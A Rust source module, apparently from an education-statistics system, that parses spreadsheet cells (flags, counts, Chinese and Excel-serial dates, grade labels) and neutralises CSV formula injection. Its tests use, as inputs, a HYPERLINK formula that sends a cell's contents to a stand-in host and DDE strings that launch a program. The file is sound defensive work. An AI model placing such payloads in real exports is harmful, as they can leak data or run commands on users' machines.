//! Cell text in and out: numbers, flags, dates and grades as bureaus write
//! them, and as edugov writes them back so that an export re-imports.

use std::borrow::Cow;

use chrono::{Datelike, NaiveDate};
use registry::Grade;

/// A cell as every CSV edugov writes must hold it (exports, error reports,
/// indicator tables): text that a spreadsheet would run as a formula gets a
/// leading `'`, OWASP's rule against CSV injection. A cell is neutralised
/// when it starts with `=`, `+`, `-`, `@`, a tab or a carriage return (and,
/// as a precaution, the full-width `＝＋－＠` a Chinese input method types) —
/// unless it is a plain number: `-0.5` (a change) or `-3` (a gap) stays a
/// number, since a number is not a formula. `.xlsx` files need none of this:
/// their cells are written as strings, never as formulas.
pub fn csv_safe(text: &str) -> Cow<'_, str> {
    let Some(first) = text.chars().next() else {
        return Cow::Borrowed(text);
    };
    let triggers = matches!(
        first,
        '=' | '+' | '-' | '@' | '\t' | '\r' | '\u{ff1d}' | '\u{ff0b}' | '\u{ff0d}' | '\u{ff20}'
    );
    if !triggers || is_plain_number(text) {
        return Cow::Borrowed(text);
    }
    Cow::Owned(format!("'{text}"))
}

/// `-0.5`, `+3`, `-1.2e3`: a finite decimal number and nothing else.
fn is_plain_number(text: &str) -> bool {
    text.bytes()
        .all(|b| b.is_ascii_digit() || matches!(b, b'+' | b'-' | b'.' | b'e' | b'E'))
        && text.parse::<f64>().is_ok_and(f64::is_finite)
}

/// `小班`, `一年级`, `高二`: the names a teacher would write (and
/// `Grade::parse` reads back).
pub(crate) fn grade_label(grade: Grade) -> String {
    grade.label_zh()
}

pub(crate) fn flag_label(value: bool) -> &'static str {
    if value {
        "是"
    } else {
        "否"
    }
}

/// 是/否 and the usual variants; empty is `None`.
pub(crate) fn parse_flag(text: &str) -> Result<Option<bool>, String> {
    match text {
        "" => Ok(None),
        "是" | "Y" | "y" | "yes" | "Yes" | "YES" | "1" | "true" | "TRUE" | "True" | "√" | "有" => {
            Ok(Some(true))
        }
        "否" | "N" | "n" | "no" | "No" | "NO" | "0" | "false" | "FALSE" | "False" | "×" | "无" => {
            Ok(Some(false))
        }
        _ => Err(format!("“{text}”应填“是”或“否”")),
    }
}

/// A whole number ≥ 0. Accepts `1,234` and `12.0` (Excel writes both).
pub(crate) fn parse_count(text: &str) -> Result<u32, String> {
    let cleaned = text.trim_end_matches(".0");
    if let Ok(n) = cleaned.parse::<u32>() {
        return Ok(n);
    }
    let without_commas: String = cleaned.chars().filter(|c| *c != ',' && *c != '，').collect();
    if let Ok(n) = without_commas.parse::<u32>() {
        return Ok(n);
    }
    if without_commas.starts_with('-') && without_commas.get(1..).is_some_and(|r| r.parse::<u32>().is_ok()) {
        return Err(format!("“{text}”不能为负数"));
    }
    Err(format!("“{text}”应为非负整数"))
}

/// A decimal number ≥ 0.
pub(crate) fn parse_amount(text: &str) -> Result<f64, String> {
    let value = parse_decimal(text)?;
    if value < 0.0 {
        return Err(format!("“{text}”不能为负数"));
    }
    Ok(value)
}

pub(crate) fn parse_decimal(text: &str) -> Result<f64, String> {
    let parsed = text.parse::<f64>().ok().or_else(|| {
        let without_commas: String = text.chars().filter(|c| *c != ',' && *c != '，').collect();
        without_commas.parse::<f64>().ok()
    });
    match parsed {
        Some(v) if v.is_finite() => Ok(v),
        _ => Err(format!("“{text}”应为数字")),
    }
}

/// `2016-02-29`, `2016/2/29`, `2016.2.29`, `2016年2月29日`, `20160229`,
/// `2016-02-29 00:00:00`, or an Excel serial date (`42429`).
pub(crate) fn parse_date(text: &str) -> Result<NaiveDate, String> {
    let wrong = || format!("日期“{text}”无法识别，应写作 2016-02-29、2016/2/29 或 20160229");
    let date_part = text.split(['T', ' ']).next().unwrap_or(text);
    if date_part.len() == 8 && date_part.bytes().all(|b| b.is_ascii_digit()) {
        return NaiveDate::parse_from_str(date_part, "%Y%m%d").map_err(|_| format!("日期“{text}”不存在"));
    }
    if !date_part.is_empty() && date_part.len() <= 7 {
        // An Excel serial number: days since 1899-12-30 (the 1900 system,
        // including Excel's phantom 1900-02-29 for serials below 61).
        if let Ok(serial) = date_part.trim_end_matches(".0").parse::<i64>() {
            return excel_serial_date(serial).ok_or_else(wrong);
        }
    }
    let parts: Vec<&str> = date_part
        .split(['-', '/', '.', '年', '月', '日'])
        .filter(|p| !p.is_empty())
        .collect();
    let [y, m, d] = parts.as_slice() else {
        return Err(wrong());
    };
    let (Ok(y), Ok(m), Ok(d)) = (y.parse::<i32>(), m.parse::<u32>(), d.parse::<u32>()) else {
        return Err(wrong());
    };
    if y < 1000 {
        return Err(wrong());
    }
    NaiveDate::from_ymd_opt(y, m, d).ok_or_else(|| format!("日期“{text}”不存在"))
}

pub(crate) fn excel_serial_date(serial: i64) -> Option<NaiveDate> {
    if !(1..=2_958_465).contains(&serial) {
        return None;
    }
    let epoch = NaiveDate::from_ymd_opt(1899, 12, 30)?;
    let days = if serial < 61 { serial + 1 } else { serial };
    epoch.checked_add_signed(chrono::TimeDelta::try_days(days)?)
}

pub(crate) fn date_text(date: NaiveDate) -> String {
    let mut text = String::with_capacity(10);
    push_date(&mut text, date);
    text
}

/// Appends `2016-02-29` without the formatting machinery (exports write
/// 1.3 M of them).
pub(crate) fn push_date(out: &mut String, date: NaiveDate) {
    let year = u32::try_from(date.year()).unwrap_or(0).min(9999);
    for n in [year / 1000, year / 100 % 10, year / 10 % 10, year % 10] {
        out.push(char::from(b'0' + (n % 10) as u8));
    }
    for part in [date.month(), date.day()] {
        out.push('-');
        out.push(char::from(b'0' + (part / 10 % 10) as u8));
        out.push(char::from(b'0' + (part % 10) as u8));
    }
}

/// Whether an identity-number cell lost digits to Excel's number format
/// (`3.70102E+17`): the number is gone, only retyping as text helps.
pub(crate) fn looks_scientific(text: &str) -> bool {
    text.contains(['E', 'e']) && text.parse::<f64>().is_ok()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_like_text_is_neutralised_for_csv_and_numbers_are_not() {
        for (text, safe) in [
            (
                r#"=HYPERLINK("http://x.example/?"&A1,"y")"#,
                r#"'=HYPERLINK("http://x.example/?"&A1,"y")"#,
            ),
            ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
            ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
            ("@SUM(1+1)", "'@SUM(1+1)"),
            ("\t=1+1", "'\t=1+1"),
            ("\r=1+1", "'\r=1+1"),
            ("＝1+1", "'＝1+1"),
            ("-", "'-"),
            ("-inf", "'-inf"),
            ("-1+1", "'-1+1"),
            ("-0.5", "-0.5"),
            ("-3", "-3"),
            ("+12.5", "+12.5"),
            ("-1.2e3", "-1.2e3"),
            ("张三", "张三"),
            ("a=b", "a=b"),
            ("", ""),
        ] {
            assert_eq!(csv_safe(text), safe, "{text:?}");
        }
    }

    fn date(text: &str) -> String {
        match parse_date(text) {
            Ok(d) => date_text(d),
            Err(e) => e,
        }
    }

    #[test]
    fn dates_are_read_in_the_forms_bureaus_write() {
        for text in [
            "2016-02-29",
            "2016/2/29",
            "20160229",
            "2016.2.29",
            "2016年2月29日",
            "2016-02-29 00:00:00",
            "42429",
        ] {
            assert_eq!(date(text), "2016-02-29", "{text}");
        }
        assert_eq!(date("2017-02-29"), "日期“2017-02-29”不存在");
        assert_eq!(date("20170229"), "日期“20170229”不存在");
        assert_eq!(
            date("明年"),
            "日期“明年”无法识别，应写作 2016-02-29、2016/2/29 或 20160229"
        );
        assert_eq!(date("1"), "1900-01-01");
        assert_eq!(date("61"), "1900-03-01");
    }

    #[test]
    fn counts_reject_negatives_and_words() {
        assert_eq!(parse_count("1,234"), Ok(1234));
        assert_eq!(parse_count("45.0"), Ok(45));
        assert_eq!(parse_count("-3"), Err("“-3”不能为负数".into()));
        assert_eq!(parse_count("四十"), Err("“四十”应为非负整数".into()));
    }

    #[test]
    fn grade_labels_read_back() {
        for g in -2..=12 {
            assert_eq!(Grade::parse(&grade_label(Grade(g))), Ok(Grade(g)));
        }
        assert_eq!(grade_label(Grade(7)), "七年级");
    }

    #[test]
    fn flags_and_scientific_numbers() {
        assert_eq!(parse_flag("是"), Ok(Some(true)));
        assert_eq!(parse_flag(""), Ok(None));
        assert!(parse_flag("也许").is_err());
        assert!(looks_scientific("3.70102201602291E+17"));
        assert!(!looks_scientific("37010220160229123X"));
    }
}
